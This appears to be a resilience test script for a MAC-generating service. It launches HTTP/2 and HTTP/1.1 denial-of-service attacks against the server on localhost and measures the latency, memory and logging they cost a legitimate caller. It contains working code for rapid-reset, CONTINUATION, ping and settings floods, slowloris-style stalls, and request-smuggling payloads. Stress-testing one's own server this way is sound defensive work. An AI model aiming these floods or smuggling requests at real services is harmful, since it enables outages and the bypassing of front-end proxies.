"""Peers that have proved nothing, against a real hsmac: what they cost a caller who has a proof.

    python attacks.py PATH-OF-HSMAC [--long] [--only WORDS]     (the command `openssl`)

Speaks TLS, HTTP/2 and HTTP/1.1 by itself, with Python's standard library alone, and shares no code with the server. Each
attack runs in a process of its own, while a caller with a proof asks for MACs on one connection and opens others. What is
printed as a table is kept in docs/drills.md.
"""

import argparse
import asyncio
import base64
import contextlib
import datetime
import hashlib
import hmac
import json
import logging
import os
import pathlib
import re
import resource
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

from service import ACCESS_KEY, ACCOUNT, KEYS, REGION, SECRET, free_address, run, until

KEY = KEYS[256]
MESSAGE = b"Hello World"
MAC = KEY.mac(MESSAGE)
BILLING = f"arn:aws:iam::{ACCOUNT}:user/billing"
# What an attack may cost.
# What a call and a new connection's MAC may take at most. The goals are far below (a p99 of twice the caller's
# alone, one second), and the table has the figures: they are the attacker's work on the same processors as much
# as the server's, so no check is made of them.
HELD_UP = 10.0
MOST_MEMORY, MOST_LINES = 80 << 20, 20

# --- HTTP/2, as raw frames (RFC 9113) ---

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, payload=b"", flags=0, stream=0):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack(*pairs):
    """Literals without Huffman and without the table (RFC 7541, section 6.2.2)."""

    def text(value):
        return (bytes([len(value)]) if len(value) < 127 else b"\x7f" + varint(len(value) - 127)) + value

    return b"".join(b"\x00" + text(name.encode()) + text(value.encode()) for name, value in pairs)


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def request_headers(path, *more):
    return hpack(
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more,
    )


def message(*fields):
    """A protobuf message of byte fields (numbers are given as they are), in gRPC's frame."""
    body = b""
    for number, value in fields:
        if isinstance(value, int):
            body += varint(number << 3) + varint(value)
        else:
            body += varint(number << 3 | 2) + varint(len(value)) + value
    return b"\0" + struct.pack(">I", len(body)) + body


GENERATE = "/hsmac.v1.MacService/GenerateMac"
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
ASKED = message((1, KEY.key_id.encode()), (2, MESSAGE), (3, 2))


# --- A caller with a proof ---


class Grpc:
    """One connection of HTTP/2, and MACs over it one by one."""

    def __init__(self, address, tls=None):
        host, port = address.split(":")
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
        self.socket.sendall(PREFACE + frame(SETTINGS))
        self.stream, self.buffer = -1, b""

    def mac(self):
        self.stream += 2
        block = request_headers(GENERATE)
        head = frame(HEADERS, block, END_HEADERS, self.stream)
        self.socket.sendall(head + frame(DATA, ASKED, END_STREAM, self.stream))
        answer = b""
        while True:
            kind, flags, stream, payload = self.read()
            if kind == SETTINGS and not flags & ACK:
                self.socket.sendall(frame(SETTINGS, flags=ACK))
            elif kind == PING and not flags & ACK:
                self.socket.sendall(frame(PING, payload, ACK))
            elif kind == GOAWAY:
                raise ConnectionError(f"GOAWAY {payload!r}")
            elif stream == self.stream and kind == DATA:
                answer += payload
                # What was read is given back, so that the windows last.
                self.socket.sendall(frame(WINDOW_UPDATE, struct.pack(">I", len(payload))))
            elif stream == self.stream and kind == RST_STREAM:
                raise ConnectionError("the call was reset")
            if stream == self.stream and flags & END_STREAM and kind in (DATA, HEADERS):
                if MAC not in answer:
                    raise AssertionError(f"no MAC: {answer!r} {payload!r}")
                return

    def read(self):
        head = self.take(9)
        length = int.from_bytes(head[:3], "big")
        stream = int.from_bytes(head[5:], "big") & 0x7FFFFFFF
        return head[3], head[4], stream, self.take(length)

    def take(self, count):
        while len(self.buffer) < count:
            more = self.socket.recv(1 << 16)
            if not more:
                raise ConnectionError("closed by the server")
            self.buffer += more
        taken, self.buffer = self.buffer[:count], self.buffer[count:]
        return taken

    def close(self):
        self.socket.close()


class Aws:
    """One connection of HTTP/1.1, and signed requests over it."""

    def __init__(self, address, tls=None):
        host, port = address.split(":")
        self.address, self.buffer = address, b""
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")

    def mac(self):
        self.socket.sendall(signed(self.address))
        while b"\r\n\r\n" not in self.buffer:
            self.more()
        head, self.buffer = self.buffer.split(b"\r\n\r\n", 1)
        length = int(re.search(rb"(?i)content-length: (\d+)", head)[1])
        while len(self.buffer) < length:
            self.more()
        body, self.buffer = self.buffer[:length], self.buffer[length:]
        if base64.b64encode(MAC) not in body:
            raise AssertionError(f"no MAC: {head!r} {body!r}")

    def more(self):
        more = self.socket.recv(1 << 16)
        if not more:
            raise ConnectionError("closed by the server")
        self.buffer += more

    def close(self):
        self.socket.close()


def signed(address, body=None, target="GenerateMac"):
    """A request with its signature (SigV4)."""
    if body is None:
        asked = {"KeyId": KEY.key_id, "Message": base64.b64encode(MESSAGE).decode(), "MacAlgorithm": KEY.algorithm}
        body = json.dumps(asked).encode()
    now = datetime.datetime.now(datetime.timezone.utc)
    stamp, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
    headers = {
        "content-type": "application/x-amz-json-1.1",
        "host": address,
        "x-amz-date": stamp,
        "x-amz-target": f"TrentService.{target}",
    }
    names = ";".join(headers)
    lines = "".join(f"{name}:{value}\n" for name, value in headers.items())
    canonical = f"POST\n/\n\n{lines}\n{names}\n{hashlib.sha256(body).hexdigest()}"
    scope = f"{day}/{REGION}/kms/aws4_request"
    to_sign = f"AWS4-HMAC-SHA256\n{stamp}\n{scope}\n{hashlib.sha256(canonical.encode()).hexdigest()}"
    key = ("AWS4" + SECRET).encode()
    for part in (day, REGION, "kms", "aws4_request"):
        key = hmac.new(key, part.encode(), "sha256").digest()
    signature = hmac.new(key, to_sign.encode(), "sha256").hexdigest()
    headers["authorization"] = (
        f"AWS4-HMAC-SHA256 Credential={ACCESS_KEY}/{scope}, SignedHeaders={names}, Signature={signature}"
    )
    headers["content-length"] = str(len(body))
    head = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
    return f"POST / HTTP/1.1\r\n{head}\r\n".encode() + body


class Caller(threading.Thread):
    """Asks for MACs on one connection, and now and then on a new one, until it is stopped."""

    def __init__(self, kind, address, tls):
        super().__init__(daemon=True)
        self.open = lambda: kind(address, tls)
        self.times, self.news, self.fault, self.stopped = [], [], None, threading.Event()

    def run(self):
        try:
            kept, next_new = self.proved(), time.monotonic()
            while not self.stopped.is_set():
                if time.monotonic() >= next_new:
                    began = time.monotonic()
                    new = self.proved()
                    self.news.append(time.monotonic() - began)
                    new.close()
                    next_new = time.monotonic() + 0.3
                began = time.perf_counter()
                kept.mac()
                self.times.append(time.perf_counter() - began)
                # At a steady pace: what is measured is the time of a call.
                time.sleep(0.002)
            kept.close()
        except Exception as fault:
            self.fault = repr(fault)

    def proved(self):
        """A new connection that has made a MAC. Until then it has proved nothing, and may have to go for
        one that came later: as clients do, it is opened again, and what that takes counts."""
        until = time.monotonic() + HELD_UP
        while True:
            try:
                new = self.open()
                new.mac()
                return new
            except OSError:
                if time.monotonic() > until:
                    raise

    def stop(self):
        self.stopped.set()
        self.join(30)

    @property
    def p99(self):
        return sorted(self.times)[int(len(self.times) * 0.99)] if self.times else float("inf")


# --- The attacks, each a coroutine on one connection: it returns or fails when the connection is at its end ---


class Peer:
    """A connection of an attacker."""

    def __init__(self, reader, writer, address):
        self.reader, self.writer, self.address = reader, writer, address

    async def send(self, data):
        self.writer.write(data)
        await self.writer.drain()

    async def begin(self, *settings):
        payload = b"".join(struct.pack(">HI", name, value) for name, value in settings)
        await self.send(PREFACE + frame(SETTINGS, payload))

    async def until_closed(self):
        # A connection that hsmac has reset is closed as well.
        with contextlib.suppress(OSError):
            while await self.reader.read(1 << 16):
                pass

    async def flood(self, piece, pieces=50):
        """Sends a piece again and again, and throws away what comes back."""
        reading = asyncio.ensure_future(self.until_closed())
        try:
            while not reading.done():
                await self.send(piece * pieces)
                await asyncio.sleep(0)
        finally:
            reading.cancel()


async def rapid_reset(peer):
    await peer.begin()
    reading = asyncio.ensure_future(peer.until_closed())
    block, stream = request_headers(GENERATE), 1
    try:
        while not reading.done():
            batch = b""
            for _ in range(50):
                batch += frame(HEADERS, block, END_HEADERS, stream)
                batch += frame(RST_STREAM, struct.pack(">I", 8), 0, stream)
                stream += 2
            await peer.send(batch)
            await asyncio.sleep(0)
    finally:
        reading.cancel()


async def continuation_flood(peer):
    await peer.begin()
    await peer.send(frame(HEADERS, request_headers(GENERATE), 0, 1))
    await peer.flood(frame(CONTINUATION, hpack(("x-more", "a" * 100)), 0, 1))


async def empty_continuations(peer):
    await peer.begin()
    await peer.send(frame(HEADERS, request_headers(GENERATE), 0, 1))
    await peer.flood(frame(CONTINUATION, b"", 0, 1))


async def settings_flood(peer):
    await peer.begin()
    await peer.flood(frame(SETTINGS, struct.pack(">HI", 4, 65535)))


async def ping_flood(peer):
    await peer.begin()
    await peer.flood(frame(PING, bytes(8)))


async def false_acknowledgements(peer):
    """Of PINGs that nobody sent."""
    await peer.begin()
    await peer.flood(frame(PING, bytes(8), ACK))


async def priority_flood(peer):
    await peer.begin()
    await peer.flood(frame(PRIORITY, struct.pack(">IB", 0, 1), 0, 3))


async def window_updates(peer):
    await peer.begin()
    await peer.flood(frame(WINDOW_UPDATE, struct.pack(">I", 1)))


async def empty_data(peer):
    await peer.begin()
    await peer.send(frame(HEADERS, request_headers(CHECK), END_HEADERS, 1))
    await peer.flood(frame(DATA, b"", 0, 1))


async def never_ending_headers(peer):
    await peer.begin()
    await peer.send(frame(HEADERS, request_headers(GENERATE), 0, 1))
    for _ in range(7):
        await asyncio.sleep(0.5)
        await peer.send(frame(CONTINUATION, hpack(("x", "y")), 0, 1))
    await peer.until_closed()


async def withheld_bodies(peer):
    """Headers with a deadline of an hour, and nothing more."""
    await peer.begin()
    block = request_headers(GENERATE, ("grpc-timeout", "1H"))
    await peer.send(b"".join(frame(HEADERS, block, END_HEADERS, stream) for stream in range(1, 40, 2)))
    await peer.until_closed()


async def dripping_bodies(peer):
    await peer.begin()
    for path, stream in ((CHECK, 1), (GENERATE, 3)):
        await peer.send(frame(HEADERS, request_headers(path, ("grpc-timeout", "1H")), END_HEADERS, stream))
    reading = asyncio.ensure_future(peer.until_closed())
    while not reading.done():
        await peer.send(frame(DATA, b"\0", 0, 1) + frame(DATA, b"\0", 0, 3))
        await asyncio.sleep(0.1)


async def large_bodies(peer):
    """As much as the windows allow, of a message of 100 MB that never ends."""
    await peer.begin()
    for stream in range(1, 20, 2):
        await peer.send(frame(HEADERS, request_headers(GENERATE, ("grpc-timeout", "1H")), END_HEADERS, stream))
        await peer.send(frame(DATA, b"\0" + struct.pack(">I", 100 << 20) + bytes(6000), 0, stream))
    await peer.until_closed()


async def zero_windows(peer):
    """Asks for health, and does not let the answers out."""
    await peer.begin((4, 0))
    for stream in range(1, 60, 2):
        await peer.send(frame(HEADERS, request_headers(CHECK), END_HEADERS, stream))
        await peer.send(frame(DATA, message(), END_STREAM, stream))
    await peer.until_closed()


async def unread_answers(peer):
    """Asks for health, and never reads."""
    await peer.begin()
    peer.writer.transport.pause_reading()
    stream = 1
    while True:
        piece = frame(HEADERS, request_headers(CHECK), END_HEADERS, stream)
        await peer.send(piece + frame(DATA, message(), END_STREAM, stream) + frame(PING, bytes(8)))
        stream += 2
        await asyncio.sleep(0)


async def health_watches(peer):
    await peer.begin()
    await peer.send(frame(HEADERS, request_headers(WATCH), END_HEADERS, 1) + frame(DATA, message(), END_STREAM, 1))
    await peer.until_closed()


async def reflection(peer):
    await peer.begin()
    await peer.send(frame(HEADERS, request_headers(REFLECTION), END_HEADERS, 1) + frame(DATA, message((7, b"")), 0, 1))
    await peer.until_closed()


async def silent_connections(peer):
    await peer.until_closed()


async def http2_idle(peer):
    await peer.begin()
    await peer.until_closed()


async def half_a_handshake(peer):
    """The beginning of a client hello, on a connection without TLS of ours."""
    await peer.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(20))
    await peer.until_closed()


async def handshakes(peer):
    """Connects, agrees on TLS, and goes away."""
    peer.writer.close()


HTTP1 = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-amz-json-1.1\r\nX-Amz-Target: TrentService.ListKeys\r\n"


async def slow_heads(peer):
    for byte in HTTP1 + b"X-Long: " + b"a" * 1000:
        await peer.send(bytes([byte]))
        await asyncio.sleep(0.1)


async def withheld_http1_bodies(peer):
    await peer.send(HTTP1 + b"Content-Length: 4000\r\n\r\n{" + b" " * 3000)
    await peer.until_closed()


async def declared_100_mb(peer):
    await peer.send(HTTP1 + b"Content-Length: 104857600\r\n\r\n{")
    await peer.flood(b" " * 1000)


async def long_bodies_that_stall(peer):
    """Heads that look signed, and all of the longest body but its end."""
    head, _ = signed(peer.address, b"{" + b" " * ((256 << 10) - 2) + b"}").split(b"\r\n\r\n", 1)
    await peer.send(head + b"\r\n\r\n{" + b" " * (250 << 10))
    await peer.until_closed()


async def endless_chunks(peer):
    await peer.send(HTTP1 + b"Transfer-Encoding: chunked\r\n\r\n")
    await peer.flood(b"1\r\n \r\n")


async def pipelined(peer):
    await peer.flood(HTTP1 + b"Content-Length: 2\r\n\r\n{}")


async def wrong_signatures(peer):
    good = signed(peer.address)
    await peer.flood(re.sub(rb"Signature=[0-9a-f]{8}", b"Signature=00000000", good))


async def smuggled(peer):
    """Two lengths, two readings: the second request must not be answered as one of its own."""
    inner = b"GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
    await peer.send(HTTP1 + b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(inner)) + inner)
    await peer.until_closed()


GRPC = [
    # The attack, its connections in the short and in the long form.
    (rapid_reset, 8, 16),
    (continuation_flood, 8, 16),
    (empty_continuations, 8, 16),
    (settings_flood, 8, 16),
    (ping_flood, 8, 16),
    (false_acknowledgements, 8, 16),
    (priority_flood, 8, 16),
    (window_updates, 8, 16),
    (empty_data, 8, 16),
    (never_ending_headers, 300, 5000),
    (withheld_bodies, 300, 5000),
    (dripping_bodies, 300, 5000),
    (large_bodies, 300, 5000),
    (zero_windows, 300, 5000),
    (unread_answers, 50, 500),
    (health_watches, 300, 5000),
    (reflection, 100, 2000),
    (http2_idle, 500, 5000),
    (silent_connections, 500, 5000),
]
TLS_ALONE = [(half_a_handshake, 1000, 5000), (handshakes, 50, 200)]
HTTP = [
    (silent_connections, 500, 5000),
    (slow_heads, 300, 5000),
    (withheld_http1_bodies, 300, 5000),
    (declared_100_mb, 8, 64),
    (long_bodies_that_stall, 200, 2000),
    (endless_chunks, 8, 64),
    (pipelined, 8, 64),
    (wrong_signatures, 4, 16),
    (smuggled, 8, 64),
]


async def attack(name, address, authority, connections, seconds):
    """Keeps so many connections of an attack; those that are closed are opened again."""
    act = globals()[name]
    host, port = address.split(":")
    tls = None
    if authority and act is not half_a_handshake:
        tls = ssl.create_default_context(cafile=authority)
        tls.set_alpn_protocols(["h2", "http/1.1"])
    counts = {"opened": 0, "closed": 0}

    async def one():
        while True:
            writer = None
            try:
                given = {"ssl": tls, "server_hostname": "localhost"} if tls else {}
                reader, writer = await asyncio.open_connection(host, int(port), **given)
                counts["opened"] += 1
                await act(Peer(reader, writer, address))
            except (OSError, ssl.SSLError, EOFError):
                pass
            finally:
                if writer:
                    writer.transport.abort()
            counts["closed"] += 1
            await asyncio.sleep(0.02)

    tasks = []
    end = time.monotonic() + seconds
    for _ in range(connections):
        tasks.append(asyncio.ensure_future(one()))
        if len(tasks) % 50 == 0:
            await asyncio.sleep(0.01)
    await asyncio.sleep(max(0, end - time.monotonic()))
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(counts))


# --- What is measured ---


class Bench:
    def __init__(self, checks, service, long, only):
        self.checks, self.service, self.long, self.only = checks, service, long, only
        self.seconds, self.rows = (20 if long else 1), []

    def front(self, what):
        return pathlib.Path(f"/proc/{self.service.process.pid}/{what}")

    def memory(self):
        return int(re.search(r"VmRSS:\s+(\d+) kB", self.front("status").read_text())[1]) << 10

    def sockets(self):
        found = 0
        for descriptor in self.front("fd").iterdir():
            try:
                found += os.readlink(descriptor).startswith("socket:")
            except OSError:
                pass
        return found

    def settled(self, sockets):
        until("all sockets are closed", lambda: self.sockets() <= sockets, 20)

    def alone(self, kind, address, tls):
        caller = Caller(kind, address, tls)
        caller.start()
        time.sleep(1)
        caller.stop()
        if caller.fault:
            raise AssertionError(caller.fault)
        return caller.p99

    def run(self, listener, attacks, caller, address, tls=None, authority=None):
        for act, short, long in attacks:
            name = act.__name__
            if self.only in f"{listener} {name}":
                count = long if self.long else short
                try:
                    self.one(listener, name, count, caller, address, tls, authority)
                except Exception as fault:
                    self.checks.holds(f"{listener}, {name} comes to its end", False, repr(fault))

    def one(self, listener, name, count, kind, address, tls, authority):
        what = f"{listener}, {name.replace('_', ' ')}"
        sockets = self.sockets()
        before = self.alone(kind, address, tls)
        self.settled(sockets)
        lines = self.service.lines
        attacker = subprocess.Popen(
            [sys.executable, "-B", __file__, "--attack", name, address, authority or "", str(count), str(self.seconds)],
            stdout=subprocess.PIPE,
            text=True,
            # It shall cost the server, not the caller's half of the machine.
            preexec_fn=lambda: os.nice(15),
        )
        time.sleep(0.5)
        caller, most = Caller(kind, address, tls), 0
        caller.start()
        while attacker.poll() is None:
            most = max(most, self.memory())
            time.sleep(0.05)
        caller.stop()
        counts = json.loads(attacker.stdout.read() or '{"opened": 0, "closed": 0}')
        logged = self.service.lines - lines
        self.settled(sockets)
        # What else the machine has to do changes from minute to minute: so right before, and right after.
        alone = max(before, self.alone(kind, address, tls))
        slowest = max(caller.news, default=float("inf"))
        self.rows.append((what, count, counts["opened"], caller.p99 / alone, slowest, most, logged))
        told = (
            f"p99 {caller.p99 * 1000:.1f} ms, {caller.p99 / alone:.1f} times; new connection {slowest:.3f} s; "
            f"{most >> 20} MB; {logged} lines; {counts['opened']} opened"
        )
        good = (
            not caller.fault
            and counts["opened"] > 0
            and max(caller.p99, slowest) <= HELD_UP
            and most <= MOST_MEMORY
            and logged <= MOST_LINES
        )
        self.checks.holds(f"{what}: {told}", good, caller.fault)

    def table(self):
        print("\n| attack | connections | opened | p99, times alone | a new connection's MAC | front | log lines |")
        print("|---|---|---|---|---|---|---|")
        for what, count, opened, times, slowest, most, logged in self.rows:
            times, slowest = f"{times:.1f}", f"{slowest * 1000:.0f} ms"
            print(f"| {what} | {count:,} | {opened:,} | {times} | {slowest} | {most >> 20} MB | {logged} |")


def smuggling(checks, address):
    """Two lengths in one head have one reading, and it is an error or the end."""
    inner = b"GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
    chunked = b"0\r\n\r\n" + inner
    for what, head, body in [
        ("Content-Length and Transfer-Encoding", b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(chunked), chunked),
        ("Transfer-Encoding and Content-Length", b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n" % len(chunked), chunked),
        ("two Content-Lengths", b"Content-Length: 2\r\nContent-Length: 50\r\n", b"{}" + inner),
        ("a list of lengths", b"Content-Length: 2, 50\r\n", b"{}" + inner),
        ("a length with a sign", b"Content-Length: +2\r\n", b"{}" + inner),
        ("an unknown coding", b"Transfer-Encoding: xchunked\r\n", chunked),
        ("a coding after chunked", b"Transfer-Encoding: chunked, identity\r\n", chunked),
        ("a space before the colon", b"Content-Length : 2\r\n", b"{}" + inner),
        ("a folded line", b"Content-Length: 2\r\n X-Folded: 1\r\n", b"{}" + inner),
    ]:
        host, port = address.split(":")
        with socket.create_connection((host, int(port)), timeout=20) as one:
            one.sendall(HTTP1 + head + b"\r\n" + body)
            one.shutdown(socket.SHUT_WR)
            answer = b""
            try:
                while more := one.recv(1 << 16):
                    answer += more
            except ConnectionError:
                pass
        first = answer.split(b"\r\n", 1)[0]
        # Whoever is in front of us may have read the second request as the body of the first.
        refused = answer.count(b"HTTP/1.1 ") <= 1 and (not first or first.startswith(b"HTTP/1.1 4"))
        checks.holds(f"{what}: refused, and nothing after it is answered", refused, answer)


class Place:
    """An authority with a certificate for the server and one for a caller, made by `openssl`."""

    def __init__(self, service):
        self.service, self.folder = service, service.config.parent
        config = re.sub(r"(?m)^anonymous = .*\n", "", service.config.read_text())
        policy = {"Statement": {"Effect": "Allow", "Action": "kms:*", "Resource": "*"}}
        (self.folder / "billing.json").write_text(json.dumps(policy))
        self.plain = service.config.read_text()
        self.closed = config + (
            f'\n[[principal]]\narn = "{BILLING}"\ncertificate_uri = "spiffe://dc1/billing"\npolicy_file = "billing.json"\n'
        )
        for name in ("authority", "server", "billing"):
            key = "-newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes"
            self.openssl(f"req -new {key} -keyout {name}.key -subj /CN={name} -out {name}.csr")
            os.chmod(self.folder / f"{name}.key", 0o400)
        self.sign("authority", "basicConstraints=critical,CA:TRUE\nkeyUsage=critical,keyCertSign\n", "-signkey authority.key")
        issuer = "-CA authority.pem -CAkey authority.key -CAcreateserial"
        self.sign("server", "extendedKeyUsage=serverAuth\nsubjectAltName=IP:127.0.0.1,DNS:localhost\n", issuer)
        self.sign("billing", "extendedKeyUsage=clientAuth\nsubjectAltName=URI:spiffe://dc1/billing\n", issuer)
        self.authority = str(self.folder / "authority.pem")

    def sign(self, name, extensions, issuer):
        (self.folder / "extensions").write_text(extensions)
        self.openssl(f"x509 -req -in {name}.csr {issuer} -days 2 -extfile extensions -out {name}.pem")

    def openssl(self, words):
        subprocess.run(["openssl", *words.split()], cwd=self.folder, check=True, capture_output=True)

    def context(self, shown=None):
        context = ssl.create_default_context(cafile=self.authority)
        if shown:
            context.load_cert_chain(self.folder / f"{shown}.pem", self.folder / f"{shown}.key")
            context.set_alpn_protocols(["h2"])
        return context

    def serve_over_tls(self):
        self.service.config.write_text(self.closed)
        settings = [
            f"{listener}.tls.{name}={file}"
            for listener in ("grpc", "aws")
            for name, file in (("certificate", "server.pem"), ("key", "server.key"), ("client_ca", "authority.pem"))
        ]
        return self.serve(settings)

    def serve_plain(self):
        self.service.config.write_text(self.plain)
        return self.serve([])

    def serve(self, settings):
        """Gives the address of gRPC."""
        address = free_address()
        self.service.serve(*settings, f"grpc.listen={address}")
        return address


def suite(checks, service):
    options = suite.options
    place = Place(service)
    bench = Bench(checks, service, options.long, options.only)
    address = place.serve_over_tls()
    bench.run("gRPC, TLS", GRPC + TLS_ALONE, Grpc, address, place.context("billing"), place.authority)
    # The plain listener below has the others in the short form.
    over_tls = HTTP if options.long else [it for it in HTTP if it[0] in (long_bodies_that_stall, wrong_signatures)]
    bench.run("AWS, TLS", over_tls + TLS_ALONE, Aws, service.address, place.context(), place.authority)
    address = place.serve_plain()
    # Everybody is a caller here.
    known = [attack for attack in GRPC if attack[0] in (rapid_reset, continuation_flood, settings_flood, ping_flood, false_acknowledgements)]
    bench.run("gRPC, plain, anonymous", known, Grpc, address)
    bench.run("AWS, plain", HTTP, Aws, service.address)
    if options.only in "AWS, plain smuggling":
        checks.part(smuggling, checks, service.address)
    bench.table()


def main():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20_000), hard))
    if sys.argv[1:2] == ["--attack"]:
        # It warns of each write to a socket that hsmac has closed, which is what is wanted here.
        logging.getLogger("asyncio").setLevel(logging.CRITICAL)
        name, address, authority, connections, seconds = sys.argv[2:]
        asyncio.run(attack(name, address, authority, int(connections), float(seconds)))
        return
    parser = argparse.ArgumentParser()
    parser.add_argument("hsmac")
    parser.add_argument("--long", action="store_true")
    parser.add_argument("--only", default="")
    suite.options = parser.parse_args()
    run("attacks", suite, suite.options.hsmac)


if __name__ == "__main__":
    main()
